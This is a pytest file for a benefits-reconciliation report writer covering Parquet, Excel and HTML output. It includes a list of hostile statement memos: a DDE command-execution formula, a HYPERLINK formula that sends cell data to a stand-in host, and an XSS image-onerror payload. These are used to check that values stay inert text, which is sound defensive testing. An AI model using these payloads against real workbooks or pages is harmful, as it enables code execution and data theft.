"""Finance's daily reports (``reconciliation/reports.py``) from the hub's tables: the
Parquet dataset, the workbook and the HTML page of a business date, for two bureaus and
two benefit types, with breaks open, closed on the day and closed before it, and an
unidentified statement item."""

from __future__ import annotations

import re
import shutil
import subprocess
import time
from datetime import UTC, datetime
from pathlib import Path

import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.dataset as ds
import pytest
from openpyxl import load_workbook
from sqlalchemy import Connection, Engine, text

from persistence import registry
from reconciliation.reports import (
    PARTITIONING,
    business_days_between,
    write_reports,
    yuan_text,
)

HUB = "B001"
DAY = "20261209"  # a Wednesday
NOW = datetime(2026, 12, 9, 2, 0, tzinfo=UTC)

#: (bureau, batch_no, benefit_type, instructed, credited, failed, funded, returned, partner,
#:  partner settled, difference, status, break_reason) — counts are 3 / 2 / 1 per batch
BATCHES = [
    (
        "R440100",
        "DB0001",
        "110",
        300_000,
        200_000,
        100_000,
        300_000,
        100_000,
        0,
        0,
        0,
        "BALANCED",
        "",
    ),
    ("R440100", "DB0002", "210", 50_055, 50_000, 55, 50_055, 0, 20_000, 0, 20_055, "PENDING", ""),
    ("R440300", "DB0003", "110", 123_456, 123_456, 0, 100_000, 0, 0, 0, -23_456, "BREAK", "R03"),
    ("R440300", "DB0004", "210", 7_001, 7_001, 0, 7_001, 0, 1_000, 0, 1_000, "BREAK", "R08"),
]


def _file(conn: Connection, name: str, type_: str, sender: str) -> int:
    return registry.record_file(
        conn,
        conn_id="sftp_test",
        name=name,
        type=type_,
        sender=sender,
        receiver=HUB,
        batch_no=name[-10:-4],
        business_date=DAY,
        sha256="0" * 64,
        size=0,
        outcome="accepted",
        first_seen_at=NOW,
        processed_at=NOW,
    )


def seed(engine: Engine) -> None:
    with engine.begin() as conn:
        for b in BATCHES:
            (
                bureau,
                batch_no,
                btype,
                ins,
                cre,
                fail,
                fund,
                ret,
                ptn,
                ptn_s,
                diff,
                status,
                reason,
            ) = b
            file_id = _file(conn, f"DISB_{bureau}_{HUB}_{DAY}_{batch_no}.txt", "DISB", bureau)
            conn.execute(
                text(
                    "INSERT INTO disb_batch (bureau, batch_no, file_id, business_date, "
                    "benefit_type, line_count, total_fen, funded_fen, status) VALUES "
                    "(:bureau, :batch_no, :file_id, :d, :btype, 3, :ins, :fund, 'answered')"
                ),
                {
                    "bureau": bureau,
                    "batch_no": batch_no,
                    "file_id": file_id,
                    "d": DAY,
                    "btype": btype,
                    "ins": ins,
                    "fund": fund,
                },
            )
            for date in ("20261208", DAY):  # yesterday's figures must not be reported
                conn.execute(
                    text(
                        "INSERT INTO recon_batch (bureau, business_date, batch_no, benefit_type, "
                        "instructed_count, instructed_fen, credited_count, credited_fen, "
                        "failed_count, failed_fen, funded_fen, returned_fen, partner_fen, "
                        "partner_settled_fen, difference_fen, status, break_reason) VALUES "
                        "(:bureau, :date, :batch_no, :btype, 3, :ins, 2, :cre, 1, :fail, :fund, "
                        ":ret, :ptn, :ptn_s, :diff, :status, :reason)"
                    ),
                    {
                        "bureau": bureau,
                        "date": date,
                        "batch_no": batch_no,
                        "btype": btype,
                        "ins": ins if date == DAY else 999_999_999,
                        "cre": cre,
                        "fail": fail,
                        "fund": fund,
                        "ret": ret,
                        "ptn": ptn,
                        "ptn_s": ptn_s,
                        "diff": diff,
                        "status": status,
                        "reason": reason,
                    },
                )
        stmt_file = _file(conn, f"STMT_PBOC_{HUB}_{DAY}_ST0001.txt", "STMT", "PBOC")
        lines = [
            # (txn_ref, business_date, amount_fen, memo): the second is resolved the day before
            ("T20261207000001", "20261207", 88_888, "货款 unknown"),
            ("T20261207000002", "20261207", 1_234, "DISB/NOPE"),
            ("T20261210000003", "20261210", 5_000, "tomorrow's"),
        ]
        ids = {}
        for txn_ref, bdate, fen, memo in lines:
            ids[txn_ref] = conn.execute(
                text(
                    "INSERT INTO statement_line (sender, txn_ref, file_id, business_date, "
                    "value_date, dc, amount_fen, memo, kind, posted) VALUES ('PBOC', :ref, :f, "
                    ":d, :d, 'C', :fen, :memo, 'UNIDENTIFIED', false) RETURNING id"
                ),
                {"ref": txn_ref, "f": stmt_file, "d": bdate, "fen": fen, "memo": memo},
            ).scalar_one()
        breaks = [
            # bureau, batch_no, reason, ref, amount, first, last, matched, resolved_at, by, why
            ("R440300", "DB0003", "R03", "", 23_456, DAY, DAY, None, None, None, None),
            ("R440300", "DB0004", "R08", "B002", 1_000, "20261208", DAY, None, None, None, None),
            (
                "",
                "",
                "R09",
                "stmt:PBOC:T20261207000001",
                88_888,
                "20261207",
                DAY,
                None,
                None,
                None,
                None,
            ),
            # first seen 20261120 (Friday): 13 business days before DAY
            ("R440100", "DB0009", "R07", "", 777, "20261120", DAY, None, None, None, None),
            # resolved on DAY at 09:30 Shanghai: in the dataset, not open
            (
                "R440100",
                "DB0002",
                "R02",
                "",
                55,
                "20261207",
                DAY,
                None,
                datetime(2026, 12, 9, 1, 30, tzinfo=UTC),
                "wang.li",
                "corrected by bureau",
            ),
            # resolved 20261208 (23:30 Shanghai, 15:30 UTC): not reported on DAY
            (
                "",
                "",
                "R09",
                "stmt:PBOC:T20261207000002",
                1_234,
                "20261207",
                "20261208",
                None,
                datetime(2026, 12, 8, 15, 30, tzinfo=UTC),
                "zhao.min",
                "returned to payer",
            ),
            # matched on DAY
            ("R440100", "DB0001", "R07", "", 100_000, "20261208", DAY, DAY, None, None, None),
            # resolved the day after DAY: still open as of DAY
            (
                "R440300",
                "DB0003",
                "R01",
                "",
                2,
                "20261201",
                DAY,
                None,
                datetime(2026, 12, 10, 3, 0, tzinfo=UTC),
                "li.na",
                "answered late",
            ),
            # first seen after DAY: not reported
            ("R440100", "DB0002", "R04", "", 9, "20261210", "20261210", None, None, None, None),
        ]
        for bureau, batch_no, reason, ref, fen, first, last, matched, at, by, why in breaks:
            conn.execute(
                text(
                    "INSERT INTO recon_break (bureau, batch_no, reason, ref, amount_fen, "
                    "first_date, last_date, matched_date, resolved_at, resolved_by, resolution) "
                    "VALUES (:bureau, :batch_no, :reason, :ref, :fen, :first, :last, :matched, "
                    ":at, :by, :why)"
                ),
                {
                    "bureau": bureau,
                    "batch_no": batch_no,
                    "reason": reason,
                    "ref": ref,
                    "fen": fen,
                    "first": first,
                    "last": last,
                    "matched": matched,
                    "at": at,
                    "by": by,
                    "why": why,
                },
            )


def dataset(parquet_dir: Path) -> pa.Table:
    return ds.dataset(parquet_dir, format="parquet", partitioning=PARTITIONING).to_table()


def test_the_dataset_holds_every_batch_and_every_break_of_the_day_in_fen_partitioned_by_date_and_bureau(
    engine: Engine, tmp_path: Path
) -> None:
    seed(engine)
    paths = write_reports(engine, DAY, tmp_path)

    day_dir = paths.parquet_dir / f"business_date={DAY}"
    assert sorted(p.name for p in day_dir.iterdir()) == [
        "bureau=R440100",
        "bureau=R440300",
        "bureau=__HIVE_DEFAULT_PARTITION__",
    ]
    table = dataset(paths.parquet_dir)
    assert {"business_date", "bureau"} <= set(table.column_names)
    assert str(table.schema.field("instructed_fen").type) == "int64"
    assert str(table.schema.field("amount_fen").type) == "int64"
    rows = table.to_pylist()
    assert {r["business_date"] for r in rows} == {DAY}
    batches = {r["batch_no"]: r for r in rows if r["item_type"] == "batch"}
    assert len(batches) == 4
    assert batches["DB0002"]["instructed_fen"] == 50_055
    assert batches["DB0002"]["failed_fen"] == 55
    assert batches["DB0003"]["difference_fen"] == -23_456
    assert batches["DB0003"]["bureau"] == "R440300"
    assert (batches["DB0003"]["status"], batches["DB0003"]["break_reason"]) == ("BREAK", "R03")
    assert pc.sum(table.filter(pc.field("item_type") == "batch")["instructed_fen"]).as_py() == (
        300_000 + 50_055 + 123_456 + 7_001
    )

    breaks = {(r["batch_no"], r["reason"]): r for r in rows if r["item_type"] == "break"}
    assert sorted(breaks) == [
        ("", "R09"),
        ("DB0001", "R07"),
        ("DB0002", "R02"),
        ("DB0003", "R01"),
        ("DB0003", "R03"),
        ("DB0004", "R08"),
        ("DB0009", "R07"),
    ]
    assert breaks[("", "R09")]["bureau"] is None
    assert breaks[("", "R09")]["amount_fen"] == 88_888
    assert breaks[("DB0009", "R07")]["age_days"] == 13
    assert breaks[("DB0004", "R08")]["age_days"] == 1
    assert breaks[("DB0004", "R08")]["benefit_type"] == "210"
    assert breaks[("DB0003", "R03")]["age_days"] == 0
    assert breaks[("DB0003", "R01")]["state"] == "open"
    assert breaks[("DB0003", "R01")]["resolved_by"] is None
    assert breaks[("DB0001", "R07")]["state"] == "matched"
    resolved = breaks[("DB0002", "R02")]
    assert (resolved["state"], resolved["closed_date"], resolved["resolved_by"]) == (
        "resolved",
        DAY,
        "wang.li",
    )
    assert resolved["resolution"] == "corrected by bureau"


def test_writing_a_date_again_replaces_its_partition_and_gives_the_same_bytes(
    engine: Engine, tmp_path: Path
) -> None:
    seed(engine)
    first = write_reports(engine, DAY, tmp_path)
    html = first.html.read_bytes()
    workbook = first.workbook.read_bytes()
    files = {p.relative_to(tmp_path): p.read_bytes() for p in first.parquet_dir.rglob("*.parquet")}
    stale = first.parquet_dir / f"business_date={DAY}" / "bureau=R999999"
    stale.mkdir()
    shutil.copy(next(first.parquet_dir.rglob("*.parquet")), stale / "part-0.parquet")
    other_day = first.parquet_dir / "business_date=20261208" / "bureau=R440100"
    other_day.mkdir(parents=True)
    (other_day / "part-0.parquet").write_bytes(b"yesterday")

    # a later second: a workbook stamped with the clock would differ
    time.sleep(1.1)
    again = write_reports(engine, DAY, tmp_path)

    assert again.html.read_bytes() == html
    assert again.workbook.read_bytes() == workbook
    assert {
        p.relative_to(tmp_path): p.read_bytes()
        for p in again.parquet_dir.rglob("*.parquet")
        if "20261208" not in str(p)
    } == files
    assert (other_day / "part-0.parquet").read_bytes() == b"yesterday"
    assert not stale.exists()


def test_the_workbook_has_the_summary_the_open_breaks_and_the_unidentified_items(
    engine: Engine, tmp_path: Path
) -> None:
    seed(engine)
    paths = write_reports(engine, DAY, tmp_path)
    assert paths.workbook.name == f"recon_{DAY}.xlsx"

    wb = load_workbook(paths.workbook)
    assert wb.sheetnames == ["Summary", "Breaks", "Unidentified"]
    assert not paths.workbook.read_bytes().count(b"vbaProject")

    summary = wb["Summary"]
    header = [c.value for c in summary[2]]
    assert header[:4] == ["Bureau", "Benefit type", "Benefit", "Batches"]
    col = {name: i for i, name in enumerate(header)}
    body = {(r[0].value, r[1].value or ""): r for r in summary.iter_rows(min_row=3)}
    assert set(body) == {
        ("R440100", "110"),
        ("R440100", "210"),
        ("R440300", "110"),
        ("R440300", "210"),
        ("Total", ""),
    }
    pension_300 = body[("R440300", "110")]
    assert pension_300[col["Instructed 指令"]].value == pytest.approx(1234.56)
    assert pension_300[col["Instructed 指令"]].number_format == "#,##0.00"
    assert pension_300[col["Difference 差额"]].value == pytest.approx(-234.56)
    assert pension_300[col["BREAK"]].value == 1
    unemployment_100 = body[("R440100", "210")]
    assert unemployment_100[col["Failed 失败"]].value == pytest.approx(0.55)
    assert unemployment_100[col["PENDING"]].value == 1
    total = body[("Total", "")]
    assert total[col["Batches"]].value == 4
    assert total[col["Instructed 指令"]].value == pytest.approx(4805.12)

    breaks = wb["Breaks"]
    rows = [[c.value for c in r] for r in breaks.iter_rows(min_row=2)]
    assert len(rows) == 5  # open at the end of DAY
    r08 = next(r for r in rows if r[2] == "R08")
    assert r08[:5] == [
        "R440300",
        "DB0004",
        "R08",
        "合作银行结算缺失或不符",
        "partner settlement missing or different",
    ]
    assert r08[6] == pytest.approx(10.00)
    assert r08[7].strftime("%Y%m%d") == "20261208"
    assert r08[9] == 1
    assert {r[2] for r in rows} == {"R01", "R03", "R07", "R08", "R09"}

    unidentified = wb["Unidentified"]
    items = [[c.value for c in r] for r in unidentified.iter_rows(min_row=2)]
    assert [(i[1], i[5], i[6]) for i in items] == [("T20261207000001", 888.88, "货款 unknown")]


#: memos a payment system might send: each would run or mislead if a sheet read it as a
#: formula, an error value or a bad character
HOSTILE_MEMOS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1)',
    "+1+2",
    "-2+3",
    "@SUM(1+1)",
    "#N/A",
    "退款\x01\x1b[31m",
]


def test_a_memo_that_reads_like_a_formula_or_holds_a_control_character_stays_text_in_the_workbook(
    engine: Engine, tmp_path: Path
) -> None:
    seed(engine)
    with engine.begin() as conn:
        file_id = conn.scalar(text("SELECT file_id FROM statement_line LIMIT 1"))
        for n, memo in enumerate(HOSTILE_MEMOS):
            conn.execute(
                text(
                    "INSERT INTO statement_line (sender, txn_ref, file_id, business_date, "
                    "value_date, dc, amount_fen, memo, kind, posted) VALUES ('PBOC', :ref, :f, "
                    ":d, :d, 'C', 100, :memo, 'UNIDENTIFIED', false)"
                ),
                {"ref": f"X{n}", "f": file_id, "d": DAY, "memo": memo},
            )

    paths = write_reports(engine, DAY, tmp_path)

    sheet = load_workbook(paths.workbook)["Unidentified"]
    memos = {r[1].value: r[6] for r in sheet.iter_rows(min_row=2)}
    for n, memo in enumerate(HOSTILE_MEMOS):
        cell = memos[f"X{n}"]
        assert cell.data_type == "s", (memo, cell.data_type)
        assert cell.value == memo.replace("\x01", "\ufffd").replace("\x1b", "\ufffd")
        assert cell.quotePrefix == memo.startswith(("=", "+", "-", "@"))
    page = paths.html.read_text(encoding="utf-8")
    assert "=cmd|&#x27; /C calc&#x27;!A0" in page


def test_the_workbook_opens_in_libreoffice(engine: Engine, tmp_path: Path) -> None:
    office = shutil.which("libreoffice") or shutil.which("soffice")
    if office is None:
        pytest.skip("LibreOffice is not installed: the headless conversion check is skipped")
    seed(engine)
    with engine.begin() as conn:
        conn.execute(
            text("UPDATE statement_line SET memo = '=1+1' WHERE txn_ref = 'T20261207000001'")
        )
    paths = write_reports(engine, DAY, tmp_path / "out")
    # every sheet to a CSV of its own, in UTF-8, each cell as LibreOffice shows it
    subprocess.run(
        [
            office,
            "--headless",
            f"-env:UserInstallation=file://{tmp_path / 'lo'}",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1",
            "--outdir",
            str(tmp_path / "csv"),
            str(paths.workbook),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )

    def sheet(name: str) -> str:
        return (tmp_path / "csv" / f"recon_{DAY}-{name}.csv").read_text(encoding="utf-8")

    assert "R440300" in sheet("Summary") and '"1,234.56"' in sheet("Summary")
    assert "合作银行结算缺失或不符" in sheet("Breaks")
    assert sheet("Unidentified").splitlines()[1].endswith(",888.88,=1+1")


def test_the_page_shows_every_figure_as_text_and_loads_nothing_from_outside(
    engine: Engine, tmp_path: Path
) -> None:
    seed(engine)
    page = write_reports(engine, DAY, tmp_path).html.read_text(encoding="utf-8")

    assert '<meta charset="utf-8">' in page
    assert "2026-12-09" in page
    assert not re.search(r"<script|<link|https?://(?!www\.w3\.org/2000/svg)|@import|url\(", page)
    assert 'data-figure="instructed">4,805.12<' in page
    assert 'data-figure="open-breaks">5<' in page
    # the per-benefit-type chart: 110 instructed = 3,000.00 + 1,234.56
    assert 'data-benefit-type="110" data-series="instructed">4,234.56<' in page
    assert 'data-benefit-type="210" data-series="returned">0.00<' in page
    # break ageing: 0-1 (R03 0 days, R08 1 day), 2-5 (R09 2 days), 6-10 (R01 6 days), >10 (R07 13)
    for bucket, count in (("0-1", 2), ("2-5", 1), ("6-10", 1), ("&gt;10", 1)):
        assert f'data-age-bucket="{bucket}" data-figure="count">{count}<' in page
    assert 'class="status status-BREAK"' in page
    assert "合作银行结算缺失或不符" in page
    assert "批次未到账或到账不足 / batch unfunded or under-funded" in page
    assert "T20261207000001" in page
    assert 'data-reason="R02"' not in page  # resolved on the day: not an open break


def test_every_value_on_the_page_is_escaped(engine: Engine, tmp_path: Path) -> None:
    seed(engine)
    with engine.begin() as conn:
        conn.execute(
            text(
                "UPDATE statement_line SET memo = '<img src=x onerror=alert(1)>&' "
                "WHERE txn_ref = 'T20261207000001'"
            )
        )
    page = write_reports(engine, DAY, tmp_path).html.read_text(encoding="utf-8")
    assert "<img" not in page
    assert "&lt;img src=x onerror=alert(1)&gt;&amp;" in page


def test_a_day_without_items_gives_empty_reports(engine: Engine, tmp_path: Path) -> None:
    paths = write_reports(engine, "20261211", tmp_path)
    assert not (paths.parquet_dir / "business_date=20261211").exists()
    assert 'data-figure="batches">0<' in paths.html.read_text(encoding="utf-8")
    assert load_workbook(paths.workbook)["Breaks"].max_row == 1


def test_age_counts_business_days_after_first_seen() -> None:
    assert business_days_between("20261209", "20261209") == 0
    assert business_days_between("20261204", "20261207") == 1  # Friday to Monday
    assert business_days_between("20261204", "20261207", holidays={"20261207"}) == 0
    assert business_days_between("20261120", "20261209") == 13


def test_yuan_are_derived_from_fen_exactly() -> None:
    assert yuan_text(0) == "0.00"
    assert yuan_text(5) == "0.05"
    assert yuan_text(-23_456) == "-234.56"
    assert yuan_text(123_456_789_012_345_678) == "1,234,567,890,123,456.78"
